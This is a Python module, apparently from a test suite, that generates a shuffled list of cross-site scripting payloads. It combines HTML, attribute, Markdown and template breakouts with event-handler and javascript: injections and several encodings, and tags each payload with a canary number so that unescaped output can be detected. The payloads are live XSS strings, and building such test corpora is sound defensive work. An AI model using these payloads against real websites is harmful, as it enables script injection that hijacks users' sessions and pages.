"""Texts that try to become scripts, made of a small grammar: ways out of a place, what to do there, and spellings.

Each says its own number when it runs: as a script by xss_ran(number), without one by asking for /xss/number. None is
made to get past a filter of somebody else's; they say what a forgotten escape would do.
"""

from __future__ import annotations

import html
import random
from collections.abc import Callable, Iterator
from itertools import product
from urllib.parse import quote

RUN, ASK = "RUN", "ASK"  # what a number takes the place of
CANARY = "/xss/"

OUT_OF_TEXT = (
    "", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "</option></select>", "</a>", "</p></div>",
    "</noscript>", "-->", "]]>", '\\">', "`>",
)  # fmt: skip
ELEMENTS = (
    "<script>RUN</script>", "<img src=x onerror=RUN>", "<svg onload=RUN>", "<details open ontoggle=RUN>x</details>",
    "<input autofocus onfocus=RUN>", "<video><source onerror=RUN></video>", "<b onmouseover=RUN>x</b>",
    '<iframe srcdoc="<script>parent.RUN</script>"></iframe>', "<iframe src=javascript:parent.RUN></iframe>",
    "<a href=javascript:RUN>x</a>", "<img src=ASK>", "<link rel=stylesheet href=ASK>", "<iframe src=ASK></iframe>",
    "<object data=ASK></object>", "<form action=javascript:RUN><button>x</button></form>",
)  # fmt: skip
OUT_OF_ATTRIBUTES = ('" ', "' ", "` ", "x ", '"', '\\" ')
ATTRIBUTES = (
    "onfocus=RUN autofocus tabindex=1 ", "onmouseover=RUN ", "onerror=RUN src=x ", "onload=RUN ",
    "href=javascript:RUN ", "formaction=javascript:RUN ", "srcdoc=<script>parent.RUN</script> ",
    "style=background:url(ASK) ",
)  # fmt: skip
ELSEWHERE = (
    '";RUN;"', "';RUN;'", "\\';RUN;//", '\\";RUN;//', "${RUN}", "-RUN-", "\nRUN\n", "*/RUN/*",  # in scripts
    "javascript:RUN", "JaVaScRiPt:RUN", "java\tscript:RUN", " javascript:RUN", "data:text/html,<script>RUN</script>",
    "[a](javascript:RUN)", "![a](javascript:RUN)", "<javascript:RUN>", "[a][b]\n\n[b]: javascript:RUN",
    '[a](http://b.example "t\\" onmouseover=RUN ")', "`</code><img src=x onerror=RUN>`", "![](ASK)",
    "[<img src=x onerror=RUN>](http://b.example)", "| a |\n|---|\n| <img src=x onerror=RUN> |",  # in Markdown
    "{{RUN}}", "{% RUN %}", "{{{RUN}}}", "<%=RUN%>", "#{RUN}", "\\u003cimg src=x onerror=RUN\\u003e", "url(ASK)",
    "=RUN", "}RUN;{", "<!--<script>RUN", "<![CDATA[<img src=x onerror=RUN>]]>",
)  # fmt: skip


def _in_capitals(text: str) -> str:
    for name in ("script", "img", "onerror", "svg", "onload", "iframe", "srcdoc", "title", "textarea", "style"):
        text = text.replace(name, name.swapcase())
    return text


SPELLINGS: tuple[Callable[[str], str], ...] = (
    str,
    _in_capitals,
    html.escape,
    lambda text: html.escape(html.escape(text)),
    lambda text: quote(text, safe="()/ "),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace("<", "\\x3c").replace('"', "\\x22").replace("'", "\\x27"),
)


def _all() -> Iterator[str]:
    plain = [way + what for way, what in product(OUT_OF_TEXT, ELEMENTS)]
    plain += [f"{way}{what}x={way.strip()}" for way, what in product(OUT_OF_ATTRIBUTES, ATTRIBUTES)]
    for spell, text in product(SPELLINGS, [*plain, *ELSEWHERE]):
        yield spell(text)


PAYLOADS = list(dict.fromkeys(_all()))
random.Random(14).shuffle(PAYLOADS)  # every few of them are of all kinds


def numbered(payload: str, number: int) -> str:
    """A payload that says this number, and says it in plain letters, too, so that it is found where it is shown."""
    return f"{payload.replace(RUN, f'xss_ran({number})').replace(ASK, f'{CANARY}{number}')}q{number}q"
